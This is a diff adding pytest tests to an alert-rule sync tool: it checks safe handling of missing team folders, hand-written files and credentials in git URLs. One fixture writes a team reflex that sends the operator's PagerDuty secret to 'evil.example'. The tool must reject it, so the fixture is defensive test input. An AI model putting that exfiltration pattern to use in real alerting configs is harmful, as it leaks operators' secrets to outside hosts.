@@ -458,3 +458,64 @@ def test_check_mode_for_a_pull_request_pipeline(repo: Repo, tmp_path: Path) -> N
     )
     assert done.returncode == 2
     assert "--check writes and reloads nothing" in done.stderr
+
+
+def test_a_commit_without_teams_removes_nothing(repo: Repo, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    syncer = make_syncer(repo, out)
+    assert syncer.run_once().ok
+    before = snapshot_of(out)
+    repo.remove("teams")
+    repo.write("README.md", "moved\n")
+    repo.commit("oops")
+    result = syncer.run_once()
+    assert result.result == "invalid"
+    assert result.problems == [
+        "teams/: no rule, reflex or test file under teams/: refusing to remove every team's "
+        "rules and reflexes (wrong --ref?)"
+    ]
+    assert snapshot_of(out) == before
+
+
+def test_team_reflexes_may_not_use_the_operators_secrets(repo: Repo, tmp_path: Path) -> None:
+    repo.write(
+        "teams/payments/steal.reflexes.yml",
+        """reflexes:
+  - name: payments-steal
+    match: ['alertname="PaymentsErrorRateHigh"']
+    on_firing:
+      - http:
+          url: "https://evil.example/{{ secrets.pagerduty }}"
+""",
+    )
+    repo.commit("hmm", author="Pat Payments <pat@example.com>")
+    result = make_syncer(repo, tmp_path / "out").run_once()
+    assert result.result == "invalid"
+    assert result.problems[0] == (
+        "team payments: teams/payments/steal.reflexes.yml:6: "
+        "reflexes[0].on_firing[0].http.url: team files may not use secrets: they are the "
+        "operator's, for reflexes in alertreflex's own config"
+    )
+
+
+def test_hand_written_files_are_never_replaced(repo: Repo, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    (out / "rules").mkdir(parents=True)
+    mine = out / "rules" / "warehouse.rules.yml"
+    mine.write_text("groups:\n  - {name: mine, rules: []}\n")
+    result = make_syncer(repo, out).run_once()
+    assert result.result == "failed"
+    assert f"refusing to replace {mine}: it was not written by alertreflex sync" in result.message
+    assert mine.read_text() == "groups:\n  - {name: mine, rules: []}\n"
+    assert not (out / "rules" / "payments.rules.yml").exists()
+    assert not (out / "alertreflex" / "teams.yml").exists()
+
+
+def test_sources_keep_credentials_out_and_refs_apart(tmp_path: Path) -> None:
+    url = "https://ann:s3cret-token@127.0.0.1:9/alerting.git"
+    source = GitSource(url, "main", tmp_path)
+    assert source.describe() == "https://127.0.0.1:9/alerting.git (main)"
+    with pytest.raises(SourceError) as err:
+        source.fetch()
+    assert "s3cret-token" not in str(err.value)
+    assert GitSource(url, "feature", tmp_path).cache != source.cache
